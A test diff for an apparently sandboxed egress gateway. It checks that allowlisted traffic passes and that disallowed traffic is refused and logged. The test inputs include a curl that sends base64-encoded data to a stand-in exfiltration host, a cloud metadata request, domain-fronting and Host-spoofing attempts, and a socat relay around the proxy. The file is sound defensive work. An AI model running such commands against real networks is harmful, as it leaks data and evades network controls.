@@ -1,0 +1,167 @@
+import { execFileSync } from 'node:child_process';
+import { readFileSync } from 'node:fs';
+import { createServer as createHttpServer, type IncomingHttpHeaders, type Server } from 'node:http';
+import { createServer as createHttpsServer } from 'node:https';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Moat } from '../../src/index.js';
+import { DnsStub } from '../helpers/dns-stub.js';
+import { captureIO, Scratch } from '../helpers/fixtures.js';
+
+/**
+ * The egress gateway, end to end: real sandboxes, the real gateway process, local upstream
+ * servers on loopback, and a DNS stub that records every query. Allowed names map to 127.0.0.1,
+ * which the policy admits by an explicit CIDR rule (loopback is refused otherwise).
+ */
+describe('egress through the gateway', () => {
+  const scratch = new Scratch();
+  const dns = new DnsStub({ 'allowed.test': '127.0.0.1', 'api.wild.test': '127.0.0.1', 'meta.test': '169.254.169.254', 'private.test': '10.0.0.1' });
+  const seen: Array<{ url: string; headers: IncomingHttpHeaders }> = [];
+  let http: Server;
+  let https: Server;
+  let moat: Moat;
+  let otherMoat: Moat;
+
+  const listen = (server: Server) => new Promise<number>((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as { port: number }).port)));
+  let httpPort = 0;
+  let httpsPort = 0;
+
+  beforeAll(async () => {
+    await dns.start();
+    const key = join(scratch.root, 'key.pem');
+    const cert = join(scratch.root, 'cert.pem');
+    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', key, '-out', cert, '-subj', '/CN=allowed.test', '-addext', 'subjectAltName=DNS:allowed.test', '-days', '1'], { stdio: 'ignore' });
+    const handler = (req: { url?: string; headers: IncomingHttpHeaders }, res: { end: (body: string) => void }) => {
+      seen.push({ url: req.url ?? '', headers: req.headers });
+      res.end(`upstream saw ${req.url}\n`);
+    };
+    http = createHttpServer(handler);
+    https = createHttpsServer({ key: readFileSync(key), cert: readFileSync(cert) }, handler);
+    httpPort = await listen(http);
+    httpsPort = await listen(https);
+    scratch.writeConfig(`egress:\n  allow: [allowed.test, "*.wild.test", meta.test, private.test, 127.0.0.1/32]\n  deny: [blocked.allowed.test]\n`);
+    moat = scratch.moat({ env: { MOAT_GATEWAY_DNS: `127.0.0.1:${dns.port}` } });
+    await moat.up({ task: 'net', network: 'allowlist' });
+    await moat.up({ task: 'off' });
+    otherMoat = moat;
+  });
+  afterAll(async () => {
+    http.close();
+    https.close();
+    dns.stop();
+    await scratch.cleanup();
+  });
+
+  async function curl(task: string, args: string): Promise<{ code: number; out: string }> {
+    const cap = captureIO();
+    const result = await moat.exec(task, ['sh', '-c', `curl -sS -m 10 ${args} 2>&1; echo "exit=$?"`], cap.io, { sync: false });
+    expect(result.exitCode).toBe(0);
+    const out = cap.out();
+    return { code: Number(/exit=(\d+)\s*$/.exec(out)?.[1] ?? -1), out };
+  }
+  const audit = async () => moat.egress('net');
+  const lastAudit = async () => (await audit()).at(-1)!;
+
+  it('network none (the default): no interface, no proxy, no gateway socket, no DNS', async () => {
+    const cap = captureIO();
+    await moat.exec('off', ['sh', '-c', 'tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d " "; env | grep -ci proxy; ls /moat 2>&1; getent hosts allowed.test || echo no-dns'], cap.io, { sync: false });
+    expect(cap.out().split('\n')).toEqual(['lo', '0', 'ls: cannot access \'/moat\': No such file or directory', 'no-dns', '']);
+  });
+
+  it('allows an allowlisted name over HTTP, logging the resolved address', async () => {
+    const r = await curl('net', `http://allowed.test:${httpPort}/hello`);
+    expect(r.out).toContain('upstream saw /hello');
+    expect(await lastAudit()).toMatchObject({ method: 'GET', host: 'allowed.test', port: httpPort, address: '127.0.0.1', decision: 'allowed', rule: 'allow allowed.test' });
+    expect((await lastAudit()).bytesDown).toBeGreaterThan(0);
+  });
+
+  it('allows an allowlisted name over HTTPS (CONNECT), checking the TLS server name', async () => {
+    const r = await curl('net', `-k https://allowed.test:${httpsPort}/secure`);
+    expect(r.out).toContain('upstream saw /secure');
+    expect(await lastAudit()).toMatchObject({ method: 'CONNECT', host: 'allowed.test', sni: 'allowed.test', decision: 'allowed' });
+  });
+
+  it('refuses a name that is not allowed, without looking it up', async () => {
+    const before = dns.queries.length;
+    const r = await curl('net', `http://exfil.test/?d=$(echo secret | base64)`);
+    expect(r.out).toContain('egress denied');
+    expect(await lastAudit()).toMatchObject({ host: 'exfil.test', decision: 'denied' });
+    const https = await curl('net', '-k https://exfil.test/');
+    expect(https.code).not.toBe(0);
+    expect(dns.queries.slice(before)).not.toContain('exfil.test');
+  });
+
+  it('deny wins over an allowing wildcard; wildcards match subdomains only', async () => {
+    expect((await curl('net', `http://blocked.allowed.test:${httpPort}/`)).out).toContain('egress denied');
+    expect(await lastAudit()).toMatchObject({ decision: 'denied', rule: 'deny blocked.allowed.test' });
+    expect((await curl('net', `http://api.wild.test:${httpPort}/w`)).out).toContain('upstream saw /w');
+    expect((await curl('net', `http://wild.test:${httpPort}/`)).out).toContain('egress denied');
+  });
+
+  it('refuses IP literals in any spelling unless listed', async () => {
+    for (const host of ['2130706434', '0x7f.0.0.2', '127.2', '[::1]', '[::ffff:127.0.0.2]']) {
+      // Through the proxy explicitly: loopback spellings are otherwise the sandbox's own (NO_PROXY).
+      const r = await curl('net', `--noproxy '' http://${host}:${httpPort}/`);
+      expect(r.out, host).toContain('egress denied');
+    }
+    expect(seen.filter((s) => s.url === '/').length).toBe(0);
+  });
+
+  it('refuses metadata and private addresses behind allowed names, without connecting', async () => {
+    expect((await curl('net', 'http://meta.test/latest/meta-data/')).out).toContain('egress denied');
+    expect(await lastAudit()).toMatchObject({ decision: 'denied', rule: expect.stringContaining('metadata address 169.254.169.254') });
+    expect((await curl('net', 'http://private.test/')).out).toContain('egress denied');
+    expect(await lastAudit()).toMatchObject({ decision: 'denied', rule: expect.stringContaining('private address 10.0.0.1') });
+  });
+
+  it('refuses a TLS server name other than the CONNECT host (domain fronting)', async () => {
+    const r = await curl('net', `-k --connect-to evil.test:${httpsPort}:allowed.test:${httpsPort} https://evil.test:${httpsPort}/`);
+    expect(r.code).not.toBe(0);
+    expect(await lastAudit()).toMatchObject({ method: 'CONNECT', host: 'allowed.test', sni: 'evil.test', decision: 'denied' });
+  });
+
+  it('refuses a Host header that is not the request target', async () => {
+    const r = await curl('net', `-H "Host: evil.test" http://allowed.test:${httpPort}/`);
+    expect(r.out).toContain('egress denied');
+    expect(await lastAudit()).toMatchObject({ decision: 'denied', rule: expect.stringContaining('Host header') });
+  });
+
+  it('a program that ignores the proxy variables gets no connection at all', async () => {
+    const count = (await audit()).length;
+    const r = await curl('net', `--noproxy '*' http://allowed.test:${httpPort}/direct`);
+    expect(r.code).not.toBe(0);
+    const cap = captureIO();
+    await moat.exec('net', ['sh', '-c', `getent hosts allowed.test || echo no-dns; echo x | socat -u - UDP-SENDTO:127.0.0.53:53 2>&1 | head -1; echo done`], cap.io, { sync: false });
+    expect(cap.out()).toContain('no-dns');
+    expect((await audit()).length).toBe(count);
+    expect(seen.some((s) => s.url === '/direct')).toBe(false);
+  });
+
+  it('a relay inside the sandbox gains nothing: the gateway judges every connection', async () => {
+    const cap = captureIO();
+    await moat.exec('net', ['sh', '-c', `(socat TCP-LISTEN:9999,bind=127.0.0.1,fork UNIX-CONNECT:/moat/egress/p.sock &) ; sleep 0.5; curl -sS -m 5 -x http://127.0.0.1:9999 http://exfil.test/ 2>&1; curl -sS -m 5 -x http://127.0.0.1:9999 http://allowed.test:${httpPort}/relay 2>&1; pkill -f TCP-LISTEN:9999`], cap.io, { sync: false });
+    expect(cap.out()).toContain('egress denied');
+    expect(cap.out()).toContain('upstream saw /relay');
+  });
+
+  it('moat deny and moat allow change a running task at once', async () => {
+    await moat.changeEgress('net', { deny: ['allowed.test'] });
+    expect((await curl('net', `http://allowed.test:${httpPort}/`)).out).toContain('egress denied');
+    await moat.changeEgress('net', { allow: ['allowed.test'] });
+    expect((await curl('net', `http://allowed.test:${httpPort}/again`)).out).toContain('upstream saw /again');
+  });
+
+  it('tasks with different policies share one gateway without sharing policies', async () => {
+    await otherMoat.up({ task: 'narrow', network: 'allowlist' });
+    await otherMoat.changeEgress('narrow', { deny: ['allowed.test'] });
+    const [wide, narrow] = await Promise.all([curl('net', `http://allowed.test:${httpPort}/wide`), curl('narrow', `http://allowed.test:${httpPort}/narrow`)]);
+    expect(wide.out).toContain('upstream saw /wide');
+    expect(narrow.out).toContain('egress denied');
+  });
+
+  it('ls counts allowed and denied attempts', async () => {
+    const row = (await moat.ls()).find((t) => t.name === 'net')!;
+    expect(row.egress.allowed).toBeGreaterThan(3);
+    expect(row.egress.denied).toBeGreaterThan(5);
+  });
+});
